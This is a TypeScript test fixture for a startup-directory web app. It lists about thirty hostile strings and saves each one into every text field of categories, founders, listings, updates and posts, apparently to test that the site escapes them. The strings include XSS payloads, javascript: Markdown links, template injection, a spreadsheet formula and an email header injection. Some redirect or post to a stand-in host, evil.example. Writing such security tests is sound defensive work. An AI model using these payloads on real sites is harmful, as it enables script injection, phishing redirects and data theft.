import { saveAwards } from '../../../../shared/directory/award/award.writes.ts';
import { saveCategories } from '../../../../shared/directory/category/category.writes.ts';
import { saveFounders } from '../../../../shared/directory/founder/founder.writes.ts';
import { saveListings } from '../../../../shared/directory/listing/listing.writes.ts';
import { savePosts } from '../../../../shared/directory/post/post.writes.ts';
import { saveUpdates } from '../../../../shared/directory/update/update.writes.ts';
import { weekOf, weekStart } from '../../../../shared/kernel/week/week-calendar.ts';
import { lastWeek } from '../../../support/clock.ts';
import { aCategory, aFounder, aLaunch, aListing, anAward, anUpdate, aPost } from '../../../support/factories.ts';

/** Texts that break out of their context. Every element they create has the attribute `data-pwned`. */
export const payloads: readonly [string, string][] = [
  ['an element', '<b data-pwned>x</b>'],
  ['a script', '<script data-pwned>alert(1)</script>'],
  ['a script that is torn', '<scr<script>ipt data-pwned>alert(1)</scr</script>ipt>'],
  ['an end of a script', '</script><script data-pwned>alert(1)</script>'],
  ['an end of a script within JSON', '"}</script><img data-pwned src=x onerror=alert(1)>'],
  ['an end of an attribute', '" data-pwned onmouseover="alert(1)'],
  ['an end of another attribute', "' data-pwned onfocus='alert(1)' autofocus='"],
  ['an end of an attribute without quotes', 'x data-pwned onload=alert(1)'],
  ['an end of a title', '</title></head><body data-pwned>'],
  ['an end of a text field', '</textarea><form data-pwned action=https://evil.example>'],
  ['an end of a style', '</style><link data-pwned rel=stylesheet href=https://evil.example/a.css>'],
  ['a comment', '--><img data-pwned src=https://evil.example/x.png><!--'],
  ['an end of character data', ']]><script data-pwned>alert(1)</script><![CDATA['],
  ['SVG', '<svg data-pwned onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
  [
    'MathML',
    '<math data-pwned><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['a frame', '<iframe data-pwned srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a base', '<base data-pwned href=https://evil.example/>'],
  ['a refresh', '<meta data-pwned http-equiv=refresh content="0;url=https://evil.example">'],
  ['character references', '&lt;script data-pwned&gt;alert(1)&lt;/script&gt;&#60;script&#62;'],
  [
    'a Markdown link to a script',
    '[click](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>',
  ],
  ['a Markdown picture', '![x](https://evil.example/x.png" onerror="alert(1)) ![y](javascript:alert(1))'],
  ['Markdown with HTML', '# x\n\n<div data-pwned onclick=alert(1)>\n\n```\n</code></pre><b data-pwned>\n```\n'],
  ['a Markdown reference', '[x]: javascript:alert(1) "title"\n[x][x]\n\n[y]: <data:text/html,x>\n[y]'],
  ['an entity in Markdown', '[x](&#106;avascript:alert(1)) [x](java&Tab;script:alert(1)) [x](JaVaScRiPt:alert(1))'],
  ['control characters', '\u0000\u0001\u0008<b data-pwned>\u001b[31m\ufffe\uffff'],
  ['a turned text', '\u202e<b data-pwned>gpj.exe\u202c\u2066'],
  ['half a character', '\ud83d<b data-pwned>\udc00'],
  ['a template', '{{constructor.constructor("alert(1)")()}} $\u007balert(1)} <%= 7*7 %> #{7*7}'],
  ['a line separator', '\u2028alert(1)\u2029<b data-pwned>'],
  ['a formula', '=HYPERLINK("https://evil.example","x")'],
  ['a header', 'x\r\nBcc: evil-marker@evil.example\r\n\r\n<b data-pwned>'],
];

const launched = { launches: [aLaunch(lastWeek, 3)], launch_week: lastWeek, launched_at: weekStart(lastWeek) };
export const slugOf = (index: number): string => `hostile-${index}`;
const cut = (text: string, most: number): string => text.slice(0, most);

/** A record of every kind for each text, used in all its fields. */
export async function saveHostileRecords(): Promise<void> {
  for (const [index, [, text]] of payloads.entries()) {
    const id = 9_000 + index;
    const slug = slugOf(index);
    await saveCategories([
      aCategory({ _id: id, slug, name: cut(text, 100), description: text, faqs: [{ question: text, answer: text }] }),
    ]);
    await saveFounders([aFounder({ _id: id, slug, name: cut(text, 160), title: cut(text, 160), bio: text })]);
    await saveListings([
      aListing({
        _id: id,
        slug,
        website: `https://${slug}.example/?x="><b data-pwned>`,
        name: cut(text, 100),
        tagline: cut(text, 200),
        short_description: cut(text, 300),
        description: text,
        headline: cut(text, 200),
        summary: text,
        pricing_summary: cut(text, 300),
        city: cut(text, 120),
        features: [cut(text, 200)],
        usps: [cut(text, 200)],
        keywords: [cut(text, 200)],
        tags: [cut(text, 60)],
        seo_title: cut(text, 200),
        seo_description: cut(text, 320),
        faqs: [{ question: cut(text, 300), answer: text }],
        story: { title: cut(text, 200), story: text, why_started: text },
        milestones: [{ id: 1, date: '2026-01-05', title: cut(text, 200), description: text, url: null }],
        plan: 'paid',
        primary_category: id,
        category_path: [id],
        founder_ids: [id],
        votes: 3,
        ...launched,
      }),
    ]);
    await saveUpdates([anUpdate(id, { title: cut(text, 200), body: text })]);
    await savePosts([
      aPost({
        slug,
        title: cut(text, 200),
        excerpt: text,
        body_markdown: text,
        author: cut(text, 100),
        tags: ['x'],
        faqs: [{ question: text, answer: text }],
      }),
    ]);
  }
  await saveAwards([anAward(weekOf(new Date('2026-01-05T00:00:00Z')), 1, 9_000)]);
}
